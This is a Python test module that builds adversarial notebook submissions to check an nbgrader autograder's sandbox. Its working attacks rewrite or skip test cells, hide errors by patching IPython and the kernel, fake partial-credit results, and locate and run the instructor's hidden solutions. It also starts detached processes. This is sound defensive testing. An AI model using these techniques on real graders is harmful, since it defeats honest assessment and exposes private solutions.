"""An adversarial corpus for the autograder: submissions a hostile learner would hand in.

Each :class:`Attack` builds one submission of one assignment from nbgrader's
student version (:mod:`tests.grading.build_submissions`): a notebook, and
sometimes extra files to place beside it in the submission folder. The attack
is code in an ANSWER cell (a cell nbgrader marks ``solution: true``; test
cells are restored from the source by nbgrader, so an attack there would be
a no-op). Unless said otherwise an attack starts from the BLANK student
version, so whatever it does, it must score no more than a blank notebook: 0.
Attacks on other learners and on the instructor start from the reference
solution instead, so their own score says whether the sandbox broke honest
code, and their harm shows in everybody else's grades and files.

Every attack carries its expected outcome, declaratively (:class:`Attack`);
:mod:`tests.grading.test_attacks` runs the corpus through ``check`` and
``cohort grade`` and asserts it.

Where an attack's harm is visible from inside the kernel (a file written
outside its working folder, a process killed, an outside connection made,
6 GiB allocated), its code prints ``ATTACK-WON <what>`` the moment it
succeeds, and the tests require that no such line reaches the graded
notebook.

Safety of the corpus itself. Run against a grader WITHOUT a sandbox (the one
before issue 10, or ``--no-sandbox``), these submissions would otherwise damage
whatever they reach: other test runs' courses under ``/tmp``, processes of
other users of the machine. So every harmful step is aimed only at what
belongs to the test that built it: a file or directory whose path contains
the test's :attr:`Arena.token`, a process whose command line or working
directory contains it, and ``kill(-1)`` only from inside a PID namespace of
its own. The search is the real one (``/proc``, upwards from the working
folder, ``/tmp``, ``/root``, ``/home``), except that below three levels it
only descends into the token's folders, to stay fast; only the victims are
filtered. Child processes carry the token (or, for ``sleep``, a duration from
:meth:`Arena.sleep_seconds`) in their command line, so the tests can find and
end every one that outlives grading.
"""

from __future__ import annotations

import copy
import json
import re
import textwrap
from dataclasses import dataclass, field
from typing import Callable

import nbformat

#: What the tests look for in the grader's rejection reasons (report ``reason`` column, or ``check``'s
#: error), lowercase; the exact sentences are the grader's to choose. One place to adjust them.
REASON_KEYWORDS = {
    "duplicate_grade_id": "grade id",
    "cell_type": "cell type",
    "size": "size",
    "checksum": "changed",
    "missing_metadata": "metadata",
    "deleted_answer_cell": "missing",
}

#: Printed by an attack's code when a harmful step succeeded; must never reach a graded notebook.
WON = "ATTACK-WON"
#: Printed by ``listens_on_all_interfaces`` when a server on the sandbox's own loopback works, as a
#: learner's test may legitimately need.
LOOPBACK_OK = "LOOPBACK-OK"
#: In every script, event handler and ``javascript:`` URL the HTML attacks inject.
JS_CANARY = "ATTACK-JS"
#: How many ``sleep`` processes ``fork_bomb_bounded`` starts; the sandbox's process limit must stop it first.
FORK_BOMB_PROCESSES = 500
#: How many detached processes ``detached_children`` leaves behind.
DETACHED_CHILDREN = 20
#: How long the detached gradebook writer sleeps before it writes (the grading of a cohort is over by then).
DELAYED_WRITE_SECONDS = 30
#: How long the detached notebook overwriter keeps at it.
OVERWRITER_SECONDS = 25
#: The markdown cell of ``oversized_notebook``: this many bytes of base64.
OVERSIZED_BYTES = 30 * 1024 * 1024

#: Kinds of attack, numbered as in the issue's list (the tests pick what to run through ``check`` by kind).
KINDS = {
    "transformer": 1, "ast": 2, "hooks": 3, "partial_credit": 4, "fake_course": 5, "solution_theft": 6,
    "tracing": 7, "kernel_patch": 8, "builtins": 9, "introspection": 10, "others": 11, "limits": 12,
    "leak": 13, "notebook": 14, "own_implementation": 15, "reentry": 16,
}
#: Kinds that try to cheat the score or leak secrets: run through ``check`` as well as ``cohort grade``.
CHECKED_KINDS = {"transformer", "ast", "hooks", "partial_credit", "fake_course", "solution_theft", "tracing",
                 "kernel_patch", "builtins", "introspection", "leak", "reentry"}


@dataclass(frozen=True)
class Arena:
    """What the corpus knows about the test that runs it (see the module docstring).

    * ``token``: in the path of every file and folder of the test's cohorts (and in the command line
      of the grading process), so an attack can tell its victims from everything else on the machine.
    * ``host_pid_ns``: the test process's PID namespace (``readlink /proc/self/ns/pid``): a kernel in
      the same one has no sandbox, and must not ``kill(-1)``.
    * ``host_ip``: a non-loopback address of this machine ("" if none): "outside" for the network attacks.
    * ``loopback_port`` / ``outside_port``: the test's listeners on 127.0.0.1 and on ``host_ip``; they
      must never see a connection from a submission.
    * ``listen_port``: the port ``listens_on_all_interfaces`` binds on 0.0.0.0; the test must never
      reach it from the host.
    * ``sleep_base``: ``sleep`` durations from here up are the attacks' children (:meth:`sleep_seconds`).
    """

    token: str
    host_pid_ns: str
    host_ip: str = ""
    loopback_port: int = 0
    outside_port: int = 0
    listen_port: int = 0
    sleep_base: int = 400_000

    def sleep_seconds(self, attack: str, count: int) -> list[int]:
        """``count`` distinct ``sleep`` durations for ``attack``'s children, unique across the corpus."""
        slot = sorted(a.name for a in ATTACKS).index(attack)
        return [self.sleep_base + 1000 * slot + i for i in range(count)]

    def marker(self, attack: str) -> str:
        """An argument every detached Python process of ``attack`` carries."""
        return f"ATTACK-MARKER-{self.token}-{attack}"


@dataclass
class Submission:
    """A notebook and the files to place beside it (relative path -> text) in the submission folder."""

    notebook: nbformat.NotebookNode
    files: dict[str, str] = field(default_factory=dict)


@dataclass(frozen=True)
class Attack:
    """One hostile submission and the outcome it must get.

    * ``build(student, spec, arena)``: the submission, from the student version ``student``.
    * ``expect_max_score``: the most it may score (0: no more than blank; None: not bounded).
    * ``expect_score``: the exact score it must get (attacks that carry the reference solution: the
      sandbox must not break honest code); None: not asserted.
    * ``expect_status``: ``"graded"`` or ``"failed"`` (not graded) in the report; None: either.
    * ``expect_reason``: a key of :data:`REASON_KEYWORDS` the report's reason (and ``check``'s error)
      must mention, in a sentence without a Python exception name.
    * ``flag``: True: the report must flag it for the instructor; False: must not; None: not asserted.
    * ``required_output``: text that must appear in its graded notebook's outputs (the sandbox must not
      break what a learner may legitimately do).
    * ``max_feedback_bytes`` / ``max_notebook_bytes``: caps on its feedback HTML and graded notebook.
    * ``base``: ``"blank"`` or ``"solution"``: what the attack starts from.
    * ``limit``: for an attack a sandbox limit stops: if its submission is not graded, the report's reason
      must name the limit (this word, lowercase); a limit that was hit is no reason to leave a learner
      without a grade unexplained.
    * ``in_check``: False to leave it out of the ``check`` runs (see :attr:`checked`).
    """

    name: str
    assignment: str
    kind: str
    what: str
    build: Callable
    base: str = "blank"
    expect_max_score: float | None = 0
    expect_score: float | None = None
    expect_status: str | None = None
    expect_reason: str | None = None
    flag: bool | None = None
    required_output: str | None = None
    max_feedback_bytes: int | None = None
    max_notebook_bytes: int | None = None
    limit: str | None = None
    in_check: bool = True

    @property
    def checked(self) -> bool:
        """Whether the tests also run it through ``check`` (cheating and leaking attacks, unless ``in_check``
        is False: ``check`` grades the notebook alone, so an attack made of files beside it is moot there)."""
        return self.in_check and self.kind in CHECKED_KINDS


# -- building notebooks --------------------------------------------------------------------------


def _meta(cell) -> dict:
    return cell.get("metadata", {}).get("nbgrader", {})


def cell_by_id(nb, grade_id: str):
    """The cell of ``nb`` whose nbgrader grade_id is ``grade_id``."""
    for cell in nb.cells:
        if _meta(cell).get("grade_id") == grade_id:
            return cell
    raise KeyError(f"no cell with grade_id {grade_id!r}")


def answer_ids(nb) -> list[str]:
    """The grade_ids of the autograded answer cells (code, ``solution: true``), in notebook order."""
    return [_meta(c)["grade_id"] for c in nb.cells if c.cell_type == "code" and _meta(c).get("solution")]


def _copy(student):
    return nbformat.from_dict(copy.deepcopy(json.loads(json.dumps(student))))


def _start(student, spec, base: str):
    """A copy of the student version, blank or with every answer cell holding the reference solution."""
    nb = _copy(student)
    if base == "solution":
        for grade_id, code in spec.solution_code().items():
            cell_by_id(nb, grade_id).source = code
    return nb


def _code(*parts: str, arena: Arena | None = None, spec=None, attack: str = "", **values) -> str:
    """Payload source: each part dedented, joined, its ``@NAME@`` placeholders filled (no str.format:
    payloads use braces). The shared pieces (:data:`CLEANUP`, :data:`FIND`, ...) come first."""
    text = "\n\n".join(textwrap.dedent(part).strip("\n") for part in parts) + "\n"
    if arena is not None:
        values = {"TOKEN": arena.token, "HOSTPIDNS": arena.host_pid_ns, "HOSTIP": arena.host_ip,
                  "LOOPBACKPORT": arena.loopback_port, "OUTSIDEPORT": arena.outside_port,
                  "LISTENPORT": arena.listen_port, "MARKER": arena.marker(attack) if attack else "", **values}
    if spec is not None:
        values = {"ID": spec.id, **values}
    values = {"WON": 'ATTACK" "-WON', "ME": attack, **values}  # printed as WON, never in the source
    for key, value in values.items():
        text = text.replace(f"@{key}@", str(value))
    assert not re.search(r"@[A-Z]+@", text), text
    return text


def _with_code(student, spec, code: str, *, base: str = "blank", where: str = "first"):
    """The student version (blank or solution) with ``code`` added after the stub (or solution) of an
    answer cell: ``where`` is "first" or "last" answer cell, or a grade_id."""
    nb = _start(student, spec, base)
    ids = answer_ids(nb)
    grade_id = {"first": ids[0], "last": ids[-1]}.get(where, where)
    cell = cell_by_id(nb, grade_id)
    cell.source = cell.source.rstrip("\n") + "\n\n" + code
    return nb


def _replace_answers(student, spec, code_by_cell: dict[str, str]):
    """The blank student version with some answer cells replaced outright."""
    nb = _copy(student)
    for grade_id, code in code_by_cell.items():
        cell_by_id(nb, grade_id).source = code
    return nb


#: The names each assignment's answer cells define (what its tests call).
ASSIGNED_NAMES = {
    "resilience": {"retry_policy": "RetryPolicy", "circuit_breaker": "CircuitBreaker", "fallback": "with_fallback"},
    "consistency": {"idempotent_consumer": "IdempotentConsumer", "saga_orchestrator": "SagaOrchestrator",
                    "outbox_relay": "OutboxRelay"},
}


# -- shared payload pieces -----------------------------------------------------------------------

#: A post_run_cell callback that makes the cell that just ran look successful: no error in the
#: result ipykernel turns into its reply, no outputs (the error output included).
CLEANUP = '''
from IPython.display import clear_output as _atk_clear_output

_atk_shell = get_ipython()

def _atk_cleanup(result=None):
    try:
        if result is not None:
            result.error_in_exec = None
            result.error_before_exec = None
    except Exception:
        pass
    try:
        _atk_clear_output()
    except Exception:
        pass

def _atk_arm():
    """Register the cleanup for the cell now running (from inside it, after any guard ran)."""
    try:
        callbacks = _atk_shell.events.callbacks["post_run_cell"]
        if _atk_cleanup not in callbacks:
            callbacks.append(_atk_cleanup)
    except Exception:
        pass
'''

#: Stand-ins that raise nothing: whatever a test does with them succeeds, except its checks
#: (assert / raise AssertionError). Alone, in every answer cell, they earn 0 points: they are no
#: better than a blank notebook, so the AST and tracing attacks built on them must earn 0 too.
PERMISSIVE = '''
class _Anything:
    """Accepts any call, attribute, operator and comparison, and answers with itself."""
    def __init__(self, *args, **kwargs): pass
    def __getattr__(self, name):
        if name.startswith("__") and name.endswith("__"):
            raise AttributeError(name)
        return _Anything()
    def __call__(self, *args, **kwargs): return _Anything()
    def __iter__(self): return iter(())
    def __len__(self): return 0
    def __bool__(self): return True
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    __le__ = __gt__ = __ge__ = __lt__
    def __hash__(self): return 0
    def __float__(self): return 0.0
    def __int__(self): return 0
    def __index__(self): return 0
    def __getitem__(self, key): return _Anything()
    def __contains__(self, item): return True
    def __enter__(self): return self
    def __exit__(self, *exc): return True
    def __add__(self, other): return _Anything()
    __radd__ = __sub__ = __rsub__ = __mul__ = __rmul__ = __truediv__ = __rtruediv__ = __add__
'''


def _permissive_answers(spec) -> dict[str, str]:
    """Each answer cell: the assigned name bound to :data:`PERMISSIVE`'s stand-in."""
    names = ASSIGNED_NAMES[spec.id]
    first = next(iter(names))
    return {gid: (textwrap.dedent(PERMISSIVE).strip() + "\n\n" if gid == first else "") + f"{name} = _Anything\n"
            for gid, name in names.items()}


#: Find what this test may harm (see the module docstring): directories whose path names the arena.
FIND = '''
import os
from pathlib import Path

_TOKEN = "@TOKEN@"
try:
    _HERE = Path.cwd().resolve()      # taken once: a detached process outlives its working folder
except OSError:
    _HERE = Path("/")

def _mine(path):
    """Only what belongs to the test that built this submission (the corpus's safety rule)."""
    return _TOKEN in str(path)

def _walk(top, depth):
    """os.walk, at most ``depth`` levels down, descending past level 3 only into the arena."""
    top = str(top)
    base = top.rstrip("/").count("/")
    for dirpath, dirnames, filenames in os.walk(top):
        level = dirpath.rstrip("/").count("/") - base
        if level >= depth:
            dirnames[:] = []
        elif level >= 3:
            dirnames[:] = [d for d in dirnames if _mine(os.path.join(dirpath, d))]
        yield dirpath, dirnames, filenames

def _places():
    """Directories a grader's files may be in: up from here, every process's cwd and arguments, the usual homes."""
    found = set([_HERE, *_HERE.parents])
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            found.add(Path(os.readlink(f"/proc/{pid}/cwd")))
        except OSError:
            pass
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                args = f.read().split(b"\\0")
        except OSError:
            continue
        for arg in args:
            if arg.startswith(b"/"):
                path = Path(arg.decode(errors="replace"))
                found.update([path, *path.parents])
    for top in ("/tmp", "/root", "/home", os.path.expanduser("~")):
        for dirpath, dirnames, filenames in _walk(top, 9):
            if {"gradebook.db", "nbgrader_config.py"} & set(filenames) or "submitted" in dirnames:
                found.add(Path(dirpath))
    return sorted(p for p in found if _mine(p) and p.is_dir())

def _its_own(path):
    """True for files of this submission itself (its working folder and its own submission)."""
    text = str(path)
    return ((_HERE != Path("/") and _HERE in Path(path).parents)
            or any(f"/{d}/@ME@/" in text for d in ("submitted", "executed", "autograded", "scratch", "feedback")))
'''

#: Start a process that outlives its parent: a double fork, the grandchild in a session of its own.
DETACH = '''
import subprocess, sys

def _detach(args):
    launcher = ("import os, subprocess, sys\\n"
                "subprocess.Popen(sys.argv[1:], start_new_session=True, stdin=subprocess.DEVNULL,\\n"
                "                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, close_fds=True)\\n"
                "os._exit(0)\\n")
    subprocess.Popen([sys.executable, "-c", launcher, *args], start_new_session=True, stdin=subprocess.DEVNULL,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, close_fds=True).wait()
'''


# -- 1. input transformers ------------------------------------------------------------------------


def input_transformer_cleanup(student, spec, arena):
    return _with_code(student, spec, _code('''
        # From now on every cell IPython runs is `pass` (the tests included).
        get_ipython().input_transformers_cleanup.append(lambda lines: ["pass\\n"])
    '''))


def input_transformer_post(student, spec, arena):
    return _with_code(student, spec, _code('''
        # The same with the transformers that run after IPython's own: every later cell is `pass`.
        get_ipython().input_transformers_post.append(lambda lines: ["pass\\n"])
    '''))


# -- 2. AST transformers -----------------------------------------------------------------------------


def ast_transformer_swallows_errors(student, spec, arena):
    return _with_code(student, spec, _code('''
        import ast as _ast

        class _Swallow(_ast.NodeTransformer):
            """Delete every assert; wrap every top-level statement in try/except BaseException: pass."""
            def visit_Assert(self, node):
                return _ast.Pass()
            def visit_Module(self, node):
                self.generic_visit(node)
                handler = _ast.ExceptHandler(type=_ast.Name("BaseException", _ast.Load()), name=None,
                                             body=[_ast.Pass()])
                node.body = [_ast.Try(body=[stmt], handlers=[handler], orelse=[], finalbody=[])
                             for stmt in node.body] or [_ast.Pass()]
                return _ast.fix_missing_locations(node)

        get_ipython().ast_transformers.append(_Swallow())
    '''))


def ast_transformer_deletes_asserts(student, spec, arena):
    answers = _permissive_answers(spec)
    first = next(iter(answers))
    answers[first] += "\n" + _code('''
        import ast as _ast

        class _NoChecks(_ast.NodeTransformer):
            """Every assert and raise becomes `pass`: with stand-ins that never raise, nothing fails."""
            def visit_Assert(self, node):
                return _ast.Pass()
            def visit_Raise(self, node):
                return _ast.Pass()

        get_ipython().ast_transformers.append(_NoChecks())
    ''')
    return _replace_answers(student, spec, answers)


# -- 3. event hooks ------------------------------------------------------------------------------------


def hook_clears_error_output(student, spec, arena):
    return _with_code(student, spec, _code(CLEANUP, '''
        # After each cell: no error in the reply, and its outputs (the error's) cleared.
        get_ipython().events.register("post_run_cell", _atk_cleanup)
    '''))


def hooks_display_numbers(student, spec, arena):
    return _with_code(student, spec, _code('''
        import sys
        from IPython.display import clear_output, display

        def _atk_before(info):
            print(60)                 # a number on stdout
            display(60.0)             # and as display data
            sys.stdout.flush()

        def _atk_after():
            clear_output()            # then wipe whatever the cell printed, its error included,
            result = get_ipython().last_execution_result
            if result is not None:    # and the error ipykernel is about to put in its reply
                result.error_in_exec = None

        get_ipython().events.register("pre_run_cell", _atk_before)
        get_ipython().events.register("post_execute", _atk_after)
    '''))


# -- 4. nbgrader's partial credit: an execute_result before the error --------------------------------


def hook_emits_execute_result(student, spec, arena):
    return _with_code(student, spec, _code('''
        import re as _re

        def _atk_partial_credit(info):
            # nbgrader scores a test cell by its first execute_result, if one comes before the error:
            # a number is the points earned, anything else is full marks.
            found = _re.search(r"(\\d+) points?", info.raw_cell or "")
            get_ipython().displayhook(float(found.group(1)) if found else "full marks")

        get_ipython().events.register("pre_run_cell", _atk_partial_credit)
    '''))


def pre_execute_execute_result(student, spec, arena):
    return _with_code(student, spec, _code('''
        def _atk_one_point():
            # An execute_result "1.0" at the start of every cell, sent as a raw message: a point each.
            shell = get_ipython()
            kernel = shell.kernel
            kernel.session.send(kernel.iopub_socket, "execute_result",
                                {"data": {"text/plain": "1.0"}, "metadata": {}, "execution_count": shell.execution_count},
                                parent=kernel.get_parent("shell"), ident=b"execute_result")

        get_ipython().events.register("pre_execute", _atk_one_point)
    '''))


# -- 5. a package named `course` ------------------------------------------------------------------------

FAKE_COURSE = '''
"""Not the course: a learner's package of the same name, found first because the working folder is on sys.path."""
import importlib.machinery
import importlib.util
import sys
from pathlib import Path

_here = Path(__file__).resolve().parent

try:
    from IPython import get_ipython
    _shell = get_ipython()
    if _shell is not None:
        # every cell after the one importing us runs as `pass`
        _shell.input_transformers_cleanup.append(lambda lines: ["pass\\n"])
        _shell.events.register("post_run_cell", lambda result: setattr(result, "error_in_exec", None))
except Exception:
    pass

# Then stand in for the real package, so that the notebook's own imports work.
_path = [p for p in sys.path if Path(p or ".").resolve() != _here.parent]
_spec = importlib.machinery.PathFinder.find_spec("course", _path)
if _spec is not None:
    _real = importlib.util.module_from_spec(_spec)
    sys.modules["course"] = _real
    _spec.loader.exec_module(_real)
'''


def fake_course_beside_notebook(student, spec, arena):
    sub = Submission(_copy(student))
    sub.files["course/__init__.py"] = textwrap.dedent(FAKE_COURSE).lstrip()
    return sub


def fake_course_written_at_runtime(student, spec, arena):
    return _with_code(student, spec, _code('''
        import importlib, os, sys
        from pathlib import Path

        # Write a package named `course` into the working folder, forget the real one, import ours.
        Path("course").mkdir(exist_ok=True)
        Path("course/__init__.py").write_text(@SOURCE@)
        sys.path.insert(0, os.getcwd())
        for _name in [n for n in sys.modules if n == "course" or n.startswith("course.")]:
            del sys.modules[_name]
        importlib.invalidate_caches()
        import course
    ''', SOURCE=repr(textwrap.dedent(FAKE_COURSE).lstrip())))


# -- 6. the instructor's solution ----------------------------------------------------------------------

#: Where the source notebook (solutions, hidden tests) may be: up from the working folder and from
#: every process's working folder (an instructor's course: source/<id>/<id>.ipynb).
NEAR_THE_GRADER = '''
def _atk_source_notebooks():
    found = []
    here = Path.cwd().resolve()
    for d in [here, *here.parents]:
        found.append(d / "source" / "@ID@" / "@ID@.ipynb")
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                d = Path(os.readlink(f"/proc/{pid}/cwd"))
            except OSError:
                continue
            found += [q / "source" / "@ID@" / "@ID@.ipynb" for q in [d, *d.parents]]
    return [p for p in found if p.is_file()]
'''

#: ... or beside the course package: the repository's assignments/<id>/<id>.ipynb.
BESIDE_THE_PACKAGE = '''
def _atk_source_notebooks():
    import course, sysconfig
    found = [Path(course.__file__).resolve().parents[1] / "assignments" / "@ID@" / "@ID@.ipynb"]
    for top in (sysconfig.get_paths()["purelib"], sys.prefix):
        found += list(Path(top).glob("**/assignments/@ID@/@ID@.ipynb"))[:5]
    return [p for p in found if p.is_file()]
'''

STEAL_SOLUTION = '''
import json, os, sys
from pathlib import Path

@FINDER@

try:
    for _atk_path in _atk_source_notebooks():
        _atk_cells = json.loads(_atk_path.read_text())["cells"]
        _atk_solutions = ["".join(c["source"]) if isinstance(c["source"], list) else c["source"] for c in _atk_cells]
        _atk_solutions = [s for s in _atk_solutions if "### BEGIN " + "SOLUTION" in s]
        if _atk_solutions:
            for _atk_code in _atk_solutions:
                exec(_atk_code, globals())          # the instructor's solutions, defined here
            print("@WON@ ran the instructor's solutions from", _atk_path)
            break
except Exception as error:
    print("no solutions:", type(error).__name__)
'''


def _steal_everywhere(student, spec, finder: str):
    """The blank version; every answer cell, after its stub, runs the solutions it can find (so that
    each later stub is replaced again)."""
    nb = _copy(student)
    code = _code(STEAL_SOLUTION.replace("@FINDER@", textwrap.dedent(finder).strip()), spec=spec)
    for grade_id in answer_ids(nb):
        cell = cell_by_id(nb, grade_id)
        cell.source = cell.source.rstrip("\n") + "\n\n" + code
    return nb


def runs_instructor_solution(student, spec, arena):
    return _steal_everywhere(student, spec, NEAR_THE_GRADER)


def reads_solution_via_course_path(student, spec, arena):
    return _steal_everywhere(student, spec, BESIDE_THE_PACKAGE)


# -- 7. tracing ----------------------------------------------------------------------------------------

TRACER = '''
import ast as _ast, linecache as _linecache, re as _re, sys as _sys

_atk_skip_tables = {}

def _atk_skips(filename):
    """line -> the line after the statement, for every assert and raise in a cell's source."""
    if filename not in _atk_skip_tables:
        table = {}
        try:
            for node in _ast.walk(_ast.parse("".join(_linecache.getlines(filename)))):
                if isinstance(node, (_ast.Assert, _ast.Raise)):
                    table[node.lineno] = node.end_lineno + 1
        except SyntaxError:
            pass
        _atk_skip_tables[filename] = table
    return _atk_skip_tables[filename]

def _atk_is_cell(code):
    """Code of a notebook cell: IPython compiles each into a file of its own, /tmp/ipykernel_<pid>/<hash>.py."""
    name = code.co_filename
    return bool(_re.search(r"/ipykernel_\\d+/", name)) or name.startswith("<ipython-input")

def _atk_trace(frame, event, arg):
    if not _atk_is_cell(frame.f_code):
        return None
    if event == "line":
        target = _atk_skips(frame.f_code.co_filename).get(frame.f_lineno)
        if target:
            for line in range(target, target + 30):   # the next line with code
                try:
                    frame.f_lineno = line
                    break
                except ValueError:
                    continue
    return _atk_trace

def _atk_arm_trace():
    """Trace this thread from now on, and every cell frame already running (the test cell calling us)."""
    _sys.settrace(_atk_trace)
    frame = _sys._getframe(1)
    while frame is not None:
        if _atk_is_cell(frame.f_code):
            frame.f_trace = _atk_trace
        frame = frame.f_back
'''


def _tracing_answers(spec, *, install_now: bool):
    """Permissive stand-ins, made by factory functions that first (re)arm the tracer that jumps over
    asserts and raises. A factory is a plain Python function, so the test's call to it is a
    Python-to-Python call and the tracing it switches on reaches the calling test cell (CPython 3.11
    keeps the tracing state per C-level evaluation loop: arming from ``__init__``, which a class call
    reaches through C, would not)."""
    names = ASSIGNED_NAMES[spec.id]
    first = next(iter(names))
    answers = {}
    for gid, name in names.items():
        code = ""
        if gid == first:
            code = textwrap.dedent(PERMISSIVE).strip() + "\n\n" + textwrap.dedent(TRACER).strip() + "\n"
            if install_now:
                code += ("\n_sys.settrace(_atk_trace)\n"
                         "_sys.setprofile(lambda frame, event, arg: _sys.gettrace() or _sys.settrace(_atk_trace))\n")
        answers[gid] = code + f"\n\ndef {name}(*args, **kwargs):\n    _atk_arm_trace()\n    return _Anything()\n"
    return answers


def settrace_jumps_over_asserts(student, spec, arena):
    return _replace_answers(student, spec, _tracing_answers(spec, install_now=True))


def f_trace_from_stub(student, spec, arena):
    return _replace_answers(student, spec, _tracing_answers(spec, install_now=False))


# -- 8. patching IPython and ipykernel ------------------------------------------------------------------


def patches_shell(student, spec, arena):
    return _with_code(student, spec, _code('''
        from IPython.core.interactiveshell import InteractiveShell
        from ipykernel.zmqshell import ZMQInteractiveShell

        _atk_run_cell = InteractiveShell.run_cell
        _atk_run_cell_async = InteractiveShell.run_cell_async

        def _atk_ok(result):
            result.error_in_exec = None
            result.error_before_exec = None
            return result

        def run_cell(self, *args, **kwargs):
            return _atk_ok(_atk_run_cell(self, *args, **kwargs))

        async def run_cell_async(self, *args, **kwargs):
            return _atk_ok(await _atk_run_cell_async(self, *args, **kwargs))

        def _quiet(self, *args, **kwargs):
            return None            # no traceback, no error output

        for _cls in (InteractiveShell, ZMQInteractiveShell):
            _cls.run_cell = run_cell
            _cls.run_cell_async = run_cell_async
            _cls.showtraceback = _quiet
            _cls._showtraceback = _quiet
        get_ipython().showtraceback = _quiet.__get__(get_ipython())
    '''))


def patches_kernel_messages(student, spec, arena):
    return _with_code(student, spec, _code('''
        from ipykernel.ipkernel import IPythonKernel
        from ipykernel.kernelbase import Kernel
        from jupyter_client.session import Session

        _atk_send = Session.send

        def send(self, stream, msg_or_type, content=None, *args, **kwargs):
            kind = msg_or_type if isinstance(msg_or_type, str) else msg_or_type.get("header", {}).get("msg_type")
            if kind == "error":
                return None                                   # no error output reaches the grader
            if kind == "execute_reply" and isinstance(content, dict) and content.get("status") == "error":
                content = {"status": "ok", "execution_count": content.get("execution_count"),
                           "user_expressions": {}, "payload": []}
            return _atk_send(self, stream, msg_or_type, content, *args, **kwargs)

        Session.send = send
        get_ipython().kernel.session.send = send.__get__(get_ipython().kernel.session)

        _atk_do_execute = IPythonKernel.do_execute

        async def do_execute(self, *args, **kwargs):
            reply = await _atk_do_execute(self, *args, **kwargs)
            return {"status": "ok", "execution_count": reply.get("execution_count"), "user_expressions": {},
                    "payload": reply.get("payload", [])}

        IPythonKernel.do_execute = do_execute
        _atk_send_response = Kernel.send_response

        def send_response(self, stream, msg_or_type, content=None, *args, **kwargs):
            if msg_or_type == "error":
                return None
            return _atk_send_response(self, stream, msg_or_type, content, *args, **kwargs)

        Kernel.send_response = send_response
    '''))


# -- 9. builtins and sys hooks --------------------------------------------------------------------------


def replaces_builtins(student, spec, arena):
    return _with_code(student, spec, _code(CLEANUP, '''
        import builtins, sys

        # Every import (the hidden tests import course.sim inside their functions) re-arms the cleanup
        # for the cell that is running, so it survives anything done before the cell started.
        _atk_import = builtins.__import__

        def _import(name, *args, **kwargs):
            _atk_arm()
            return _atk_import(name, *args, **kwargs)

        builtins.__import__ = _import
        _atk_print = builtins.print

        def _print(*args, **kwargs):
            _atk_arm()
            return _atk_print(*args, **kwargs)

        builtins.print = _print
        builtins.AssertionError = type("AssertionError", (Exception,), {})
        builtins.NotImplementedError = type("NotImplementedError", (Exception,), {})
        sys.excepthook = lambda *args: None
        _atk_displayhook = sys.displayhook

        def _displayhook(value):
            _atk_arm()
            return _atk_displayhook(value)

        sys.displayhook = _displayhook
        _atk_arm()
    '''))


def shadows_modules_via_meta_path(student, spec, arena):
    return _with_code(student, spec, _code(CLEANUP, '''
        import importlib.abc, importlib.util, sys

        # The tests import modules inside their cells; make those imports run our code (after any
        # reset done before the cell) by forgetting the modules and putting a finder first.
        _atk_saved = {name: sys.modules[name] for name in ("contextlib", "collections", "math", "random", "numpy")
                      if name in sys.modules}

        class _AtkLoader(importlib.abc.Loader):
            def create_module(self, spec):
                return _atk_saved[spec.name]
            def exec_module(self, module):
                pass

        class _AtkFinder(importlib.abc.MetaPathFinder):
            def find_spec(self, name, path=None, target=None):
                _atk_arm()
                if name in _atk_saved:
                    return importlib.util.spec_from_loader(name, _AtkLoader())
                return None

        sys.meta_path.insert(0, _AtkFinder())
        sys.path_hooks.insert(0, lambda entry: (_atk_arm(), (_ for _ in ()).throw(ImportError()))[1])
        sys.path_importer_cache.clear()
        for _name in _atk_saved:
            del sys.modules[_name]
    '''))


# -- 10. gc, ctypes, /proc/self/mem -----------------------------------------------------------------------

INTROSPECT = '''
def _atk_introspect():
    """From inside a test cell: find the kernel's objects without asking IPython, and patch them."""
    try:
        import gc
        from IPython.core.events import EventManager
        for obj in gc.get_objects():
            if isinstance(obj, EventManager) and _atk_cleanup not in obj.callbacks["post_run_cell"]:
                obj.register("post_run_cell", _atk_cleanup)
        print("@WON@ gc.get_objects")
    except Exception:
        pass
    try:
        import ctypes
        ctypes.pythonapi.PyRun_SimpleString(b"_atk_arm()")   # runs in __main__, like the notebook
        print("@WON@ ctypes")
    except Exception:
        pass
    try:
        import ctypes as _c
        with open("/proc/self/mem", "rb") as mem:
            mem.seek(id(_atk_cleanup))
            mem.read(16)                                       # any object's memory, by address
        print("@WON@ /proc/self/mem")
    except Exception:
        pass
'''


def gc_ctypes_procmem(student, spec, arena):
    names = ASSIGNED_NAMES[spec.id]
    first = next(iter(names))
    answers = {}
    for gid, name in names.items():
        code = ""
        if gid == first:
            code = _code(CLEANUP, INTROSPECT) + "\n"
        if name[0].islower():  # with_fallback: a function
            code += f"def {name}(*args, **kwargs):\n    _atk_introspect()\n    raise NotImplementedError()\n"
        else:
            code += (f"class {name}:\n    def __init__(self, *args, **kwargs):\n        _atk_introspect()\n"
                     f"        raise NotImplementedError()\n")
        answers[gid] = code
    return _replace_answers(student, spec, answers)


# -- 16. code the tests call, doing it from inside the test cell -------------------------------------------


def _calling_stubs(spec, prelude: str, on_call: str):
    """Blank-equivalent answers whose every call first runs ``on_call`` (inside the test cell), then raises."""
    names = ASSIGNED_NAMES[spec.id]
    first = next(iter(names))
    answers = {}
    for gid, name in names.items():
        code = prelude + "\n" if gid == first else ""
        body = textwrap.indent(on_call.strip() + "\nraise NotImplementedError()", " " * 8)
        if name[0].islower():
            code += f"def {name}(*args, **kwargs):\n" + textwrap.indent(on_call.strip() + "\nraise NotImplementedError()", " " * 4) + "\n"
        else:
            code += f"class {name}:\n    def __init__(self, *args, **kwargs):\n{body}\n"
        answers[gid] = code
    return answers


def stub_arms_hooks_inside_test_cell(student, spec, arena):
    return _replace_answers(student, spec, _calling_stubs(spec, _code(CLEANUP), "_atk_arm()"))


def stub_emits_execute_result(student, spec, arena):
    return _replace_answers(student, spec, _calling_stubs(spec, "import sys as _sys\n",
                                                          '_sys.displayhook("full marks")'))


def audit_hook_and_gc_callbacks(student, spec, arena):
    return _with_code(student, spec, _code(CLEANUP, '''
        import gc, sys

        # Hooks that nothing can remove and that run inside every later cell: an audit hook (called on
        # the `exec` of each cell's code, on every import and open) and a garbage-collector callback.
        def _atk_audit(event, args):
